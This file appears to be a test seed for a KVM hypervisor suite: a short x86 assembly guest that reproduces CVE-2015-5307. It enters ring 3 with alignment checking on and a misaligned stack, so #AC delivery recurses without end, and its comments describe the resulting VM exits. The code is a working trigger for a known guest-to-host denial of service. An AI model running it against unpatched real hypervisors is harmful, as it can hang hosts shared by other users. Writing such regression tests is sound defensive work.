; Seed 004: a guest that never reaches an instruction boundary. At CPL 3 with CR0.AM and
; RFLAGS.AC set and a misaligned stack, a push raises #AC; delivering #AC to a ring-3 handler
; pushes onto the same misaligned stack, which raises #AC again, forever (CVE-2015-5307).
; - KVM intercepts #AC (default): an endless stream of EXCEPTION_NMI exits KVM re-injects.
; - vm.interceptAcDb false: the loop stays inside the processor; the vCPU hangs (KVM_EXIT_INTR
;   with `stalled`) unless Notify VM exits are on (notifyWindow): then EXIT_REASON_NOTIFY with the
;   VM context valid (the exit comes before a delivery begins), which KVM resumes silently unless
;   notifyUser asks for KVM_EXIT_NOTIFY.
; Debug port: 'S' before ring 3. Nothing after: the guest never gets past its first push.
bits 32
org 0x100000
start:
    lgdt [gdtr]
    lidt [idtr]
    mov eax, cr0
    or eax, 1 << 18          ; CR0.AM
    mov cr0, eax
    mov al, 'S'
    out 0xe9, al
    push dword 0x2b          ; SS: ring-3 data
    push dword 0x9001        ; ESP: misaligned
    push dword 0x40002       ; EFLAGS: AC
    push dword 0x23          ; CS: ring-3 code
    push dword ring3
    iretd
ring3:
    push eax                 ; #AC(0): a 4-byte push to ESP 0x8ffd
    jmp ring3
ac_handler:                  ; never reached: its frame cannot be pushed
    jmp ac_handler

align 8
gdt:
    dq 0
    dq 0
    dq 0x00cf92000000ffff    ; 0x10 data, DPL 0
    dq 0x00cf9a000000ffff    ; 0x18 code32, DPL 0 (the boot set-up's CS)
    dq 0x00cffa000000ffff    ; 0x20 code32, DPL 3
    dq 0x00cff2000000ffff    ; 0x28 data, DPL 3
gdtr:
    dw gdtr - gdt - 1
    dd gdt
align 8
idt:
    times 17 dq 0
    dw ac_handler & 0xffff, 0x23, 0xee00, (ac_handler >> 16) & 0xffff  ; #AC: 32-bit interrupt gate to ring 3
idtr:
    dw idtr - idt - 1
    dd idt
